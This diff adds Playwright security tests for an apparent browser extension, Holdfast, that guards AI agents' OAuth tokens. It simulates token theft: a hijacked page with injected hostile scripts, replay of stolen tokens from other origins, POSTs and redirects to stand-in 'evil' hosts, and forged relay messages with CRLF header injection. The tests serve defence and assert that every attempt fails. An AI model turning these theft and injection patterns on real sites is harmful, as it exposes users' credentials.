@@ -1,0 +1,348 @@
+import { readFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import type { Page } from '@playwright/test';
+import type { AuthorizationServer } from '../src/demo/authorization-server.ts';
+import type { Handler } from '../src/demo/loopback.ts';
+import { AGENT_PAGE } from './support/global-setup.ts';
+import { sweep } from './support/sweep.ts';
+import { call, connect, expect, openAgent, signIn, test, type World } from './support/world.ts';
+
+const hostile = (name: string) => readFile(new URL(`./support/hostile/${name}`, import.meta.url), 'utf8');
+
+/** An agent's site whose pages were taken over: hostile script runs ahead of the agent's. */
+async function hostileSite(): Promise<Handler> {
+  const [patches, worker] = [await hostile('patches.js'), await hostile('worker.js')];
+  const page = await readFile(join(AGENT_PAGE, 'index.html'), 'utf8');
+  return (request, response) => {
+    const { pathname } = new URL(request.url ?? '/', 'http://any.localhost');
+    if (pathname === '/worker.js') {
+      response.writeHead(200, { 'content-type': 'text/javascript' }).end(worker);
+    } else if (pathname === '/hostile' || pathname === '/callback') {
+      response.writeHead(200, { 'content-type': 'text/html' });
+      response.end(page.replace('<head>', () => `<head><script>${patches}</script>`));
+    }
+  };
+}
+
+function expectNoSecret(text: string, { issued }: AuthorizationServer): void {
+  expect(issued.accessTokens.length).toBeGreaterThan(0);
+  for (const secret of [...issued.accessTokens, ...issued.refreshTokens]) expect(text.includes(secret)).toBe(false);
+}
+
+test('a page that listens in on every prototype, global and message finds handles, and no token', async ({ world }) => {
+  const { auth, mcp } = await world.servers({ auth: { accessTokenTtl: 3 } });
+  const agent = await world.agent('agent', await hostileSite());
+  const browser = await world.protect(agent, [auth, mcp]);
+  const page = await openAgent(browser, agent, '/hostile');
+  await page.evaluate(async () => {
+    await navigator.serviceWorker.register('/worker.js');
+    await navigator.serviceWorker.ready;
+  });
+  const options = { sdk: 'v2' as const, resource: mcp.resource };
+  await signIn(page, options);
+  await call(page);
+  await expect
+    .poll(async () =>
+      call(page).then(() => auth.log.filter(({ grantType, status }) => grantType && status === 200).length),
+    )
+    .toBeGreaterThan(1);
+
+  const text = await sweep(page);
+  expect(text).toMatch(/hf_[\w-]{43}/);
+  expect(text).toMatch(/hfr_[\w-]{43}/);
+  expect(text.length).toBeGreaterThan(100_000);
+  expectNoSecret(text, auth);
+});
+
+test('the same sweep finds the token of an agent that is not protected', async ({ world }) => {
+  const { auth, mcp } = await world.servers({ binding: 'offered' });
+  const agent = await world.agent('agent', await hostileSite());
+  const page = await openAgent(world.shared, agent, '/hostile');
+  await signIn(page, { sdk: 'v2', resource: mcp.resource });
+  const text = await sweep(page);
+  expect(auth.issued.accessTokens.some((token) => text.includes(token))).toBe(true);
+  expect(auth.issued.refreshTokens.some((token) => text.includes(token))).toBe(true);
+});
+
+/** Signed in on a protected site; the handles are what a thief would take away. */
+async function signedIn(world: World) {
+  const { auth, mcp } = await world.servers();
+  const agent = await world.agent();
+  const browser = await world.protect(agent, [auth, mcp]);
+  const page = await openAgent(browser, agent);
+  await signIn(page, { sdk: 'v2', resource: mcp.resource });
+  await call(page);
+  const tokens = await page.evaluate(() => window.agent.tokens('v2'));
+  return {
+    auth,
+    mcp,
+    agent,
+    browser,
+    page,
+    access: tokens.access_token as string,
+    refresh: tokens.refresh_token as string,
+  };
+}
+
+const post = (page: Page, url: string, authorization: string) =>
+  page.evaluate(
+    ([to, credentials]) =>
+      fetch(to, {
+        method: 'POST',
+        headers: {
+          authorization: credentials,
+          'content-type': 'application/json',
+          accept: 'application/json, text/event-stream',
+        },
+        body: '{"jsonrpc":"2.0","id":1,"method":"tools/list"}',
+      }).then(
+        (response) => response.status,
+        () => 0,
+      ),
+    [url, authorization] as const,
+  );
+
+test.describe('a stolen handle', () => {
+  test('is refused from another protected origin, and from an unprotected one', async ({ world }) => {
+    const { auth, mcp, browser, access, refresh } = await signedIn(world);
+    const neighbour = await world.agent('neighbour');
+    await world.protect(neighbour, [auth, mcp]);
+    const stranger = await world.agent('stranger');
+    for (const site of [neighbour, stranger]) {
+      const page = await openAgent(browser, site);
+      const before = mcp.log.length;
+      expect(await post(page, mcp.resource, `Bearer ${access}`)).toBe(401);
+      expect(await post(page, mcp.resource, `DPoP ${access}`)).toBe(401);
+      const arrived = mcp.log.slice(before).filter(({ method }) => method === 'POST');
+      expect(arrived.map(({ proofs, status }) => [proofs, status])).toEqual([
+        [0, 401],
+        [0, 401],
+      ]);
+      const answer = await page.evaluate(
+        ([url, token]) =>
+          fetch(url, {
+            method: 'POST',
+            body: new URLSearchParams({ grant_type: 'refresh_token', refresh_token: token, client_id: 'x' }),
+          }).then((response) => response.status),
+        [`${auth.origin}/token`, refresh] as const,
+      );
+      expect(answer).toBeGreaterThanOrEqual(400);
+      await page.close();
+    }
+  });
+
+  test('gets its own page no proof for another place: the token goes nowhere else', async ({ world }) => {
+    const { auth, mcp, page, access } = await signedIn(world);
+    const seen: string[] = [];
+    const evil = await world.site('evil', (request, response) => {
+      seen.push(request.rawHeaders.join('\n'));
+      response
+        .writeHead(200, { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*, authorization' })
+        .end();
+    });
+    for (const url of [
+      evil.origin,
+      `${evil.origin}/mcp`,
+      `${mcp.origin}/admin`,
+      `${mcp.origin}/mcp-evil`,
+      `${auth.origin}/token`,
+    ]) {
+      const before = mcp.log.length;
+      await post(page, url, `Bearer ${access}`);
+      expect(mcp.log.slice(before).every(({ scheme, proofs }) => scheme !== 'DPoP' && proofs === 0)).toBe(true);
+    }
+    expect(seen.length).toBeGreaterThan(0);
+    expectNoSecret(seen.join('\n'), auth);
+    expect(seen.join('\n')).not.toMatch(/^dpop$/im);
+  });
+
+  test('does not follow a redirect to another origin', async ({ world }) => {
+    const seen: string[] = [];
+    const evil = await world.site('evil', (request, response) => {
+      seen.push(request.rawHeaders.join('\n'));
+      const headers = {
+        'access-control-allow-origin': '*',
+        'access-control-allow-headers': request.headers['access-control-request-headers'] ?? '',
+      };
+      response.writeHead(200, headers).end();
+    });
+    let redirect = false;
+    const { auth, mcp } = await world.servers({
+      mcp: {
+        intercept: async (request, response) => {
+          if (!redirect || request.method === 'OPTIONS' || request.url !== '/mcp') return false;
+          response.writeHead(307, { location: `${evil.origin}/caught`, 'access-control-allow-origin': '*' }).end();
+          return true;
+        },
+      },
+    });
+    const agent = await world.agent();
+    const browser = await world.protect(agent, [auth, mcp, evil]);
+    const page = await openAgent(browser, agent);
+    await signIn(page, { sdk: 'v2', resource: mcp.resource });
+    const { access_token } = await page.evaluate(() => window.agent.tokens('v2'));
+    redirect = true;
+    expect(await post(page, mcp.resource, `Bearer ${access_token}`)).toBe(200);
+    expect(seen.length).toBeGreaterThan(0);
+    expectNoSecret(seen.join('\n'), auth);
+    expect(seen.join('\n')).not.toMatch(/^authorization$/im);
+  });
+});
+
+test('frames, workers and beacons of the page get no token out, and none accepted without a proof', async ({
+  world,
+}) => {
+  const { auth, mcp, page, access } = await signedIn(world);
+  const before = mcp.log.length;
+  const results = await page.evaluate(
+    async ([url, handle]) => {
+      const headers = { authorization: `Bearer ${handle}`, 'content-type': 'application/json' };
+      const body = '{"jsonrpc":"2.0","id":1,"method":"tools/list"}';
+      const status = (response: Response) => response.status;
+      const frame = document.createElement('iframe');
+      document.body.append(frame);
+      // The frame's realm, before any content script may have run in it.
+      const fromFrame = frame.contentWindow?.fetch(url, { method: 'POST', headers, body }).then(status, () => 0);
+      const code = `onmessage = ({ data }) => fetch(...data).then((r) => postMessage(r.status), () => postMessage(0))`;
+      const worker = new Worker(URL.createObjectURL(new Blob([code])));
+      const fromWorker = new Promise<number>((resolve) => {
+        worker.onmessage = ({ data }) => resolve(data);
+        worker.postMessage([url, { method: 'POST', headers, body }]);
+      });
+      navigator.sendBeacon(url, body);
+      return Promise.all([fromFrame, fromWorker]);
+    },
+    [mcp.resource, access] as const,
+  );
+  // A frame that is already wrapped may use the page's own session; nothing gets through without a proof.
+  const arrived = mcp.log.slice(before).filter(({ method }) => method === 'POST');
+  expect(arrived.every(({ status, proofs }) => status === 401 || proofs === 1)).toBe(true);
+  expect(results[1]).toBe(401);
+  expectNoSecret(await sweep(page), auth);
+  await connect(page, { sdk: 'v2', resource: mcp.resource });
+  await call(page);
+});
+
+test('a sandboxed frame of the agent has an origin of its own, and is nobody’s agent', async ({ world }) => {
+  const { mcp, page, access } = await signedIn(world);
+  const before = mcp.log.length;
+  const status = await page.evaluate(
+    async ([url, handle]) => {
+      const frame = document.createElement('iframe');
+      frame.sandbox.add('allow-scripts');
+      frame.srcdoc = `<script>
+        fetch(${JSON.stringify(url)}, { method: 'POST', headers: { authorization: 'Bearer ${handle}', 'content-type': 'application/json' }, body: '{}' })
+          .then((response) => response.status, () => 0)
+          .then((status) => parent.postMessage({ status }, '*'));
+      </script>`;
+      const answer = new Promise<number>((resolve) => {
+        addEventListener('message', ({ data }) => 'status' in data && resolve(data.status));
+      });
+      document.body.append(frame);
+      return answer;
+    },
+    [mcp.resource, access] as const,
+  );
+  expect(status).toBe(401);
+  const [arrived] = mcp.log.slice(before).filter(({ method }) => method === 'POST');
+  expect(arrived).toMatchObject({ origin: 'null', proofs: 0 });
+});
+
+test('a subdomain and a port neighbour of the agent, framed in its tab, get nothing accepted', async ({ world }) => {
+  const { auth, mcp, page, access } = await signedIn(world);
+  const subdomain = await world.agent('sub.agent');
+  const port = await world.agent('agent');
+  for (const neighbour of [subdomain, port]) {
+    await call(page); // the rule stands
+    const frame = await page.evaluateHandle(async (src) => {
+      const element = document.createElement('iframe');
+      element.src = src;
+      const loaded = new Promise((resolve) => element.addEventListener('load', resolve));
+      document.body.append(element);
+      await loaded;
+      return element;
+    }, neighbour.origin);
+    const content = await frame.asElement()?.contentFrame();
+    const statuses = await content?.evaluate(
+      async ([url, handle]) => {
+        const attempt = (headers: Record<string, string>) =>
+          fetch(url, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body: '{}' }).then(
+            (response) => response.status,
+            () => 0,
+          );
+        return [await attempt({}), await attempt({ authorization: `Bearer ${handle}` })];
+      },
+      [mcp.resource, access] as const,
+    );
+    expect(statuses?.every((status) => status === 401 || status === 0)).toBe(true);
+    if (content)
+      expectNoSecret(await content.evaluate(() => JSON.stringify([localStorage, performance.getEntries()])), auth);
+  }
+});
+
+test('forged messages to the relay get no answer, or the one that changes nothing', async ({ world }) => {
+  const { mcp, page, access, auth } = await signedIn(world);
+  const answers = await page.evaluate(
+    async ([resource, handle, tokenEndpoint]) => {
+      const forged = [
+        { kind: 'prove', handle, method: 'POST', url: 'https://evil.example/' },
+        { kind: 'prove', handle, method: 'POST', url: `${new URL(resource).origin}/other` },
+        { kind: 'prove', handle: `hf_${'a'.repeat(43)}`, method: 'POST', url: resource },
+        { kind: 'prove', handle, method: 'POST\r\nX: 1', url: resource },
+        { kind: 'token', url: tokenEndpoint, headers: 'none', body: 'grant_type=refresh_token' },
+        { kind: 'token', url: 'https://evil.example/', headers: [], body: `grant_type=x&token=${handle}` },
+        { kind: 'revoke', session: 'x' },
+        { kind: 'protect', origin: 'https://evil.example' },
+        { kind: '__proto__' },
+        null,
+        'x'.repeat(1_000_000),
+      ];
+      const speak = async (scope: Window & typeof globalThis): Promise<unknown[]> => {
+        const { port1, port2 } = new MessageChannel();
+        const heard: unknown[] = [];
+        port1.onmessage = ({ data }) => heard.push(data);
+        scope.dispatchEvent(new scope.MessageEvent('holdfast:given', { ports: [port2] }));
+        scope.dispatchEvent(new scope.Event('holdfast:wanted'));
+        for (const [index, body] of forged.entries())
+          port1.postMessage({ id: index + 1000, body, origin: 'https://victim.example' });
+        port1.postMessage({ id: {}, body: forged[0] });
+        port1.postMessage('no envelope');
+        await new Promise((resolve) => setTimeout(resolve, 300));
+        return heard;
+      };
+      const frame = document.createElement('iframe');
+      document.body.append(frame);
+      const inFrame = await speak(frame.contentWindow as Window & typeof globalThis);
+      return [...(await speak(window)), ...inFrame];
+    },
+    [mcp.resource, access, `${auth.origin}/token`] as const,
+  );
+  for (const answer of answers) expect(answer).toMatchObject({ body: { kind: 'native' } });
+  await call(page);
+});
+
+test('a page cannot tell by its resources that Holdfast is there', async ({ world }) => {
+  const stranger = await world.agent('stranger');
+  const { id } = world.shared;
+  const page = await openAgent(world.shared, stranger);
+  const found = await page.evaluate(
+    (extension) =>
+      Promise.all(
+        [
+          'manifest.json',
+          'src/page/wrapper.iife.js',
+          'src/content/relay.iife.js',
+          'icons/16.png',
+          'src/ui/popup/index.html',
+        ].map((path) =>
+          fetch(`chrome-extension://${extension}/${path}`).then(
+            () => true,
+            () => false,
+          ),
+        ),
+      ),
+    id,
+  );
+  expect(found).toEqual([false, false, false, false, false]);
+  expect(await page.evaluate(() => fetch.toString())).toContain('[native code]');
+});
